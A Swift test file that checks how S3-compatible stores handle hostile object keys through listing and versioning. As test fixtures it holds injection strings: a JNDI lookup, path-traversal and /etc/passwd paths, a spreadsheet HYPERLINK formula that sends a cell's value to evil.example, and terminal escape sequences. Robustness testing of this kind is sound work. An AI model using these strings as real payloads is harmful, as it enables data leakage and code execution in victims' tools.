import DevStore
import Foundation
import NIOCore
import NIOPosix
import ObjectStorage
import StorageClients
import StorageTesting
import StorageWire
import Testing

/// The hostile keys, put by clients of others, and listed by ours: flat, by folder and by versions.
///
/// What a store refuses or changes stands in a table, so that another version of it shows here.
@Suite("hostile keys through stores of others and our own", .serialized, .timeLimit(.minutes(10)))
struct RoundTripTests {
  /// What a store does not keep as it came.
  struct Habits: Sendable {
    /// Keys that it takes no PUT for, with the code that its answer has.
    var refused: [String: String] = [:]
    /// Keys that it lists under another name.
    var listedAs: [String: String] = [:]
    /// Keys whose object has no bytes any more.
    var emptied: Set<String> = []
    /// Whether its pages of versions are plain XML although encoding was asked for.
    var versionsArePlain = false
    /// Names that these pages have instead.
    var versionsListedAs: [String: String] = [:]
    /// Why such a page is refused.
    var versionsRefused: String?
    /// Whether the place of a next page can have lost characters, so that only one page gives all keys.
    var losesPlaces = false
    /// What it says of versioning; nil for the truth.
    var versioning: Versioning?
  }

  private static let folded = [
    "${jndi:ldap://127.0.0.1/a}": "${jndi:ldap:/127.0.0.1/a}", "....//....//x": "..../..../x",
    "/etc/passwd": "etc/passwd", "/lead": "lead", "a//b": "a/b", "back\\slash": "back/slash", "C:\\x": "C:/x",
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"ok\")": "=HYPERLINK(\"http:/evil.example/?x=\"&A1,\"ok\")",
    "a\u{1b}]8;;http://evil.example\u{7}text\u{1b}]8;;\u{7}":
      "a\u{1b}]8;;http:/evil.example\u{7}text\u{1b}]8;;\u{7}",
  ]

  @Test("SeaweedFS folds paths, and its pages of versions are not exact", arguments: [false, true])
  func seaweed(isVersioned: Bool) async throws {
    let dots = Dictionary(
      uniqueKeysWithValues: ["a/../b", "../up", "..", "a/.."].map { ($0, "InvalidRequest") })
    let long = ["1024 × k": "KeyTooLongError", "256 × f": "KeyTooLongError"]
    let habits = Habits(
      refused: isVersioned ? dots : dots.merging(long) { $1 }, listedAs: Self.folded,
      emptied: ["trail/", "dir/"],
      versionsArePlain: true,
      versionsListedAs: [
        "a\u{1b}]52;c;ZXZpbA==\u{7}": "a\u{fffd}]52;c;ZXZpbA==\u{fffd}", "nonchar\u{ffff}": "nonchar\u{fffd}",
        "a\u{1b}]8;;http:/evil.example\u{7}text\u{1b}]8;;\u{7}":
          "a\u{fffd}]8;;http:/evil.example\u{fffd}text\u{fffd}]8;;\u{fffd}",
        "a\u{8}\u{8}\u{8}b": "a\u{fffd}\u{fffd}\u{fffd}b",
      ], losesPlaces: isVersioned)
    let folder = try TemporaryFolder()
    try await SeaweedFS(in: folder).use { endpoint in
      try await roundTrip(.s3, endpoint, SeaweedFS.keys, habits, isVersioned, in: folder)
    }
  }

  @Test("moto_server takes no line feed, and its pages of versions are plain", arguments: [false, true])
  func moto(isVersioned: Bool) async throws {
    let lines = ["tab\tnl\ncr\r", "line1\nline2", "line1\r\nline2"]
    let habits = Habits(
      refused: Dictionary(uniqueKeysWithValues: lines.map { ($0, "404") }), versionsArePlain: true,
      versionsRefused: "has the character U+0008", versioning: .unknown)
    let folder = try TemporaryFolder()
    try await MotoServer(in: folder).use { endpoint in
      try await roundTrip(.s3, endpoint, SeaweedFS.keys, habits, isVersioned, in: folder)
    }
  }

  @Test("the dev-store", arguments: Dialect.allCases, [false, true])
  func devStore(_ dialect: Dialect, isVersioned: Bool) async throws {
    let folder = try TemporaryFolder()
    let store = try await DevStore.start(
      DevStoreConfiguration(
        dialect: dialect, root: folder.path + "/store", accessKeyID: Harbour.keys.id,
        secretAccessKey: Harbour.keys.secret, versionedBuckets: isVersioned ? ["hostile"] : [], pageLimit: 9))
    let names =
      dialect == .s3
      ? ["AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY"] : ["OSS_ACCESS_KEY_ID", "OSS_ACCESS_KEY_SECRET"]
    let keys = [names[0]: Harbour.keys.id, names[1]: Harbour.keys.secret]
    try await roundTrip(dialect, store.endpoint, keys, Habits(), isVersioned, in: folder)
    await store.stop()
  }

  private func roundTrip(
    _ dialect: Dialect, _ endpoint: String, _ keys: [String: String], _ habits: Habits, _ isVersioned: Bool,
    in folder: TemporaryFolder
  ) async throws {
    let put = try await Subprocess.script(
      "put_hostile.py", [dialect.rawValue, endpoint, "hostile"] + (isVersioned ? ["versioned"] : []),
      environment: keys, in: folder
    ).run()
    try #require(put.status == 0, "\(put.stderr)")
    let answers = try JSONDecoder().decode([String: String].self, from: Data(put.stdout.utf8))
    let client = try Self.client(dialect, endpoint, keys)
    var refused: [String: String] = [:]
    // Names as they should be listed, with the bytes that may be under them.
    var expected: [ObjectKey: Set<[UInt8]>] = [:]
    for (spelt, answer) in answers {
      let key = try #require(ObjectKey(percentEncoded: spelt))
      if answer == "unsent" {
        let body = await ObjectBody.bytes(ByteBuffer(bytes: key.bytes), on: Self.loops.any())
        _ = try await client.put(key, body, WriteOptions())
      }
      if answer.isEmpty || answer == "unsent" {
        let bytes = habits.emptied.contains(Self.short(key)) ? [] : key.bytes
        expected[habits.listedAs[Self.short(key)].map { ObjectKey($0) } ?? key, default: []].insert(bytes)
      } else {
        refused[Self.short(key)] = answer
      }
    }
    #expect(refused == habits.refused)
    if habits.losesPlaces {
      let error = await #expect(throws: StorageError.self) { _ = try await client.everyObject(limit: 1) }
      #expect(error?.message.contains("characters that the store has replaced") == true)
    }
    let flat = try await client.everyObject(limit: habits.losesPlaces ? 1000 : 7)
    Self.expect(flat.map(\.key), Set(expected.keys), "flat")
    let folders = try await client.everyObjectByFolder(ObjectKey(""), limit: habits.losesPlaces ? 1000 : 5)
    Self.expect(folders.map(\.key), Set(expected.keys), "by folder")
    for object in flat {
      let download = try await client.get(object.key, range: nil, ifMatch: nil, on: Self.loops.any())
      let bytes = Array(try await download.body.collect(upTo: 1 << 16).readableBytesView)
      #expect(expected[object.key]?.contains(bytes) == true, "bytes of \(object.key.shown)")
    }
    #expect(try await client.versioning() == habits.versioning ?? (isVersioned ? .enabled : .never))
    try await checkVersions(client, Set(expected.keys), habits)
  }

  private func checkVersions(
    _ client: any ObjectReader, _ expected: Set<ObjectKey>, _ habits: Habits
  ) async throws {
    if let words = habits.versionsRefused {
      let error = await #expect(throws: StorageError.self) { _ = try await client.everyVersion() }
      #expect(error?.code == .malformedAnswer && error?.message.contains(words) == true)
      return try await checkPlainVersions(client, expected)
    }
    let versions = try await client.everyVersion()
    let names = expected.map { key in
      habits.versionsListedAs[key.text ?? ""].map { ObjectKey($0) } ?? key
    }
    Self.expect(versions.filter(\.isLatest).map(\.object.key), Set(names), "by version")
    #expect(versions.allSatisfy { !$0.isDeleteMarker })
    let page = try await client.listVersions(prefix: ObjectKey(""), from: nil)
    #expect(page.isByteExact == !habits.versionsArePlain)
  }

  /// What plain XML can say is listed, where it does not share a page with what it cannot.
  private func checkPlainVersions(_ client: any ObjectReader, _ expected: Set<ObjectKey>) async throws {
    let groups = Dictionary(grouping: expected) { $0.text?.unicodeScalars.first }
    let plain = groups.filter { _, keys in
      keys.allSatisfy { key in
        key.text?.unicodeScalars.allSatisfy { $0.value >= 0x20 && $0.value & 0xfffe != 0xfffe } == true
      }
    }
    #expect(plain.count > 20)
    for case (let first?, let keys) in plain {
      let versions = try await client.everyVersion(ObjectKey(String(first)))
      Self.expect(versions.map(\.object.key), Set(keys), "by version")
      #expect(versions.allSatisfy { $0.isLatest && !$0.isDeleteMarker })
    }
  }

  private static func expect(_ listed: [ObjectKey], _ expected: Set<ObjectKey>, _ how: String) {
    let found = Set(listed)
    #expect(found.count == listed.count, "\(how): a key comes twice")
    let missing = expected.subtracting(found).map(\.shown).sorted()
    let other = found.subtracting(expected).map(\.shown).sorted()
    #expect(missing.isEmpty && other.isEmpty, "\(how): missing \(missing), not put \(other)")
  }

  /// Long keys have one character many times.
  private static func short(_ key: ObjectKey) -> String {
    key.bytes.count > 200
      ? "\(key.bytes.count) × \(String(decoding: key.bytes[..<1], as: UTF8.self))" : key.text ?? ""
  }

  private static let loops = MultiThreadedEventLoopGroup.singleton

  private static func client(
    _ dialect: Dialect, _ endpoint: String, _ keys: [String: String]
  ) throws -> any ObjectWriter {
    let values = keys.sorted { $0.key < $1.key }.map(\.value)
    let credentials = Credentials(accessKeyID: values[0], secretAccessKey: values[1])
    let place = StorePlace(
      bucket: "hostile", endpoint: try HTTPOrigin(endpoint: endpoint),
      region: dialect == .s3 ? "us-east-1" : "cn-hangzhou")
    let transport = HTTPClient(
      group: MultiThreadedEventLoopGroup.singleton, security: try TransportSecurity())
    let now: @Sendable () -> Timestamp = {
      Timestamp(millisecondsSinceEpoch: Int64(Date().timeIntervalSince1970 * 1000))
    }
    return dialect == .s3
      ? S3Client(place, credentials: credentials, transport: transport, now: now)
      : OSSClient(place, credentials: credentials, transport: transport, now: now)
  }
}
